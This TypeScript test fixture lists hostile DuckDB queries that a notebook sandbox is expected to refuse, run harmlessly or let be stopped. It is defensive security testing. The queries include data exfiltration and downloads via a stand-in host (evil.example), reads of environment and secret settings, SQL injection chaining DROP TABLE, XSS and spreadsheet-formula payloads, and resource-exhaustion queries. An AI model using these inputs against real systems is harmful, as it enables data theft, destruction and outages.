/** A query that a notebook from elsewhere brings, once the person has agreed to it. */
export interface HostileQuery {
  name: string;
  sql: string;
  /**
   * `refused`: with an error, and nothing is changed. `harmless`: it may run, since it reads what it may read and says nothing else.
   * `endless`: it would run for hours; it can be stopped, and all else goes on.
   */
  ends: 'refused' | 'harmless' | 'endless';
  /** What stands in its first row where it runs. */
  answer?: string;
}

const refused = (name: string, sql: string): HostileQuery => ({ name, sql, ends: 'refused' });
const harmless = (name: string, sql: string, answer: string): HostileQuery => ({
  name,
  sql,
  ends: 'harmless',
  answer,
});
const endless = (name: string, sql: string): HostileQuery => ({ name, sql, ends: 'endless' });

const reaching: HostileQuery[] = [
  refused('reads an address', "SELECT * FROM read_csv('http://evil.example/x.csv')"),
  refused('reads an address by its bare name', "FROM 'https://evil.example/x.parquet'"),
  refused('reads an address as text', "SELECT content FROM read_text('//evil.example/x')"),
  refused(
    'reads an address within a value',
    "SELECT (SELECT count(*) FROM read_json_auto('http://evil.example/?q=' || 'x'))",
  ),
  refused(
    'reads an address in a setting of a function',
    "SELECT * FROM parquet_scan(['http://evil.example/a', 's3://b/c'], hive_partitioning := true)",
  ),
  refused('attaches an address', "ATTACH 'http://evil.example/x.db' AS far"),
  refused('attaches memory', "ATTACH ':memory:' AS mine"),
  refused('writes a file', "COPY (SELECT * FROM orders) TO 'out.csv'"),
  refused('writes to an address', "COPY orders TO 'http://evil.example/x.csv'"),
  refused('writes all', "EXPORT DATABASE 'x'"),
  refused('installs', 'INSTALL httpfs'),
  refused('installs by force from elsewhere', "FORCE INSTALL httpfs FROM 'http://evil.example'"),
  refused('loads', 'LOAD httpfs'),
  refused('says a pragma', 'PRAGMA enable_profiling'),
  refused('sets', "SET memory_limit = '100GB'"),
  refused('sets for all', 'SET GLOBAL enable_external_access = true'),
  refused('resets', 'RESET enable_external_access'),
  refused('asks for the environment', "SELECT getenv('HOME')"),
  refused('asks for a setting', "SELECT current_setting('secret_directory')"),
  refused('makes a secret', "CREATE SECRET s (TYPE S3, KEY_ID 'x')"),
  refused('calls', 'CALL force_checkpoint()'),
  refused('lists files', "SELECT * FROM glob('**')"),
];

const spying: HostileQuery[] = [
  refused('reads another notebook’s file', "SELECT * FROM read_blob('opfs://wafa/store_1.db')"),
  refused('attaches another notebook’s file', "ATTACH 'opfs://wafa/store_1.db' AS spy (READ_ONLY)"),
  refused('reads a file that is lent', "SELECT * FROM read_csv('lent/1.csv')"),
  refused('names another store', 'SELECT * FROM store_77.main.table_1'),
  refused('names another store in quotes', 'SELECT * FROM "store_2"."main"."raw_1"'),
  refused('names a schema of filters', 'SELECT * FROM memory.filter_1.orders'),
  refused('names results of others', 'SELECT * FROM results.result_1'),
  refused('lists tables', 'SELECT * FROM duckdb_tables()'),
  refused('lists databases', 'SHOW DATABASES'),
  refused('lists tables of the standard', 'SELECT * FROM information_schema.tables'),
  refused('lists settings', 'FROM duckdb_settings()'),
  refused('lists tables as another engine does', 'SELECT sql FROM sqlite_master'),
  refused('reads a table by a text', "SELECT * FROM query_table('store_1.main.table_1')"),
  refused('runs a text', "SELECT * FROM query('SELECT 1; DROP TABLE orders')"),
];

const changing: HostileQuery[] = [
  refused('puts another table in place of one', 'CREATE OR REPLACE TABLE orders AS SELECT 1 AS x'),
  refused('puts a view in place of a table', 'CREATE OR REPLACE TEMP VIEW customers AS SELECT 1'),
  refused('makes a macro of a function', 'CREATE OR REPLACE MACRO count(x) AS 42'),
  refused('takes a table away', 'DROP TABLE orders'),
  refused('empties a table', 'TRUNCATE customers'),
  refused('changes rows', 'UPDATE customers SET revenue = 0'),
  refused('changes a table', 'ALTER TABLE orders RENAME TO gone'),
  refused('goes on after a semicolon', 'SELECT 1; DROP TABLE orders'),
  refused('goes on after a comment', 'SELECT 1 -- \n; DROP TABLE orders'),
  harmless('goes on behind a comment within a comment', 'SELECT 1 /* /* */ ; DROP TABLE orders; -- */', '1'),
  refused('goes on behind a text of dollars', 'SELECT $$a$$; DROP TABLE orders; SELECT $$b$$'),
  refused('closes the parenthesis', 'SELECT 1) AS result; DROP TABLE orders; SELECT * FROM (SELECT 1'),
  refused('closes the parenthesis and joins', 'SELECT 1) AS a, (SELECT * FROM duckdb_tables()'),
  refused('comments out what comes behind', 'SELECT * FROM (SELECT 1 /*'),
  refused('hides behind a null byte', 'SELECT 1\0; DROP TABLE orders'),
  refused(
    'hides behind a line end of another kind',
    'SELECT 1 --\u2028; DROP TABLE orders\n; DROP TABLE customers',
  ),
  refused('prepares and executes', 'PREPARE x AS DROP TABLE orders'),
  refused('explains and does', 'EXPLAIN ANALYZE DELETE FROM orders'),
  refused('begins', 'BEGIN TRANSACTION'),
  refused('deletes within WITH', 'WITH x AS (DELETE FROM orders RETURNING *) SELECT * FROM x'),
];

const reading: HostileQuery[] = [
  harmless(
    'a comment that looks like an end',
    'SELECT 1 AS n /* ; DROP TABLE orders; */ -- ; DROP TABLE orders',
    '1',
  ),
  harmless(
    'a text that looks like a statement',
    "SELECT '; DROP TABLE orders; --' AS w",
    '; DROP TABLE orders; --',
  ),
  harmless(
    'HTML in a value and in a name',
    `SELECT '<img src=x onerror=window.hacked=1>' AS "<script>window.hacked=1</script>"`,
    '<img src=x onerror=window.hacked=1>',
  ),
  harmless(
    'names every object has',
    `SELECT 1 AS "__proto__", 2 AS "constructor", 3 AS "toString", 4 AS "hasOwnProperty"`,
    '1',
  ),
  harmless('names that turn the line around', `SELECT 7 AS "a\u202eb", 8 AS "\u2066c"`, '7'),
  harmless(
    'a formula in a value and in a name',
    `SELECT '=HYPERLINK("http://evil.example")' AS "=1+1", '@SUM(A1)' AS "+x", '-2+3' AS "-y"`,
    '=HYPERLINK("http://evil.example")',
  ),
  harmless(
    'a canonical table by its own name, changed',
    'WITH orders AS (SELECT 99 AS x) SELECT x FROM orders',
    '99',
  ),
  harmless('the same name three times', 'SELECT 1 AS a, 2 AS a, 3 AS a', '1'),
  harmless('a name of ten thousand letters', `SELECT 5 AS "${'n'.repeat(10_000)}"`, '5'),
  harmless('a text of null bytes', "SELECT 6 AS n, chr(0) || 'x' || chr(8238) AS t", '6'),
];

const heavy: HostileQuery[] = [
  refused('a list without end', 'SELECT range(1000000000000) AS r'),
  refused('a text without end', "SELECT repeat('x', 1000000000000) AS t"),
  refused(
    'two thousand columns',
    `SELECT ${Array.from({ length: 2000 }, (_, place) => `${place} AS c${place}`).join(', ')}`,
  ),
  harmless('five thousand brackets', `SELECT ${'('.repeat(5000)}1${')'.repeat(5000)} AS n`, '1'),
  refused(
    'queries within each other without end',
    `${'SELECT * FROM ('.repeat(1500)}SELECT 1${')'.repeat(1500)}`,
  ),
  harmless(
    'a list of forty thousand',
    `SELECT 1 IN (${Array.from({ length: 40_000 }, (_, place) => place).join(', ')}) AS n`,
    'true',
  ),
  harmless('a pattern that doubles', "SELECT regexp_matches(repeat('a', 5000), '(a+)+$') AS n", 'true'),
  harmless('a pattern of many signs', `SELECT repeat('a', 2000) LIKE '${'%a'.repeat(200)}b' AS n`, 'false'),
  endless('a range of a million millions', 'SELECT count(*) AS n FROM range(1000000000000)'),
  endless(
    'a cross join',
    'SELECT count(*) AS n FROM range(10000000) a, range(10000000) b, range(10000000) c',
  ),
  endless(
    'a recursion without end',
    'WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t) SELECT max(n) AS n FROM t',
  ),
];

export const hostileQueries = [...reaching, ...spying, ...changing, ...reading, ...heavy];
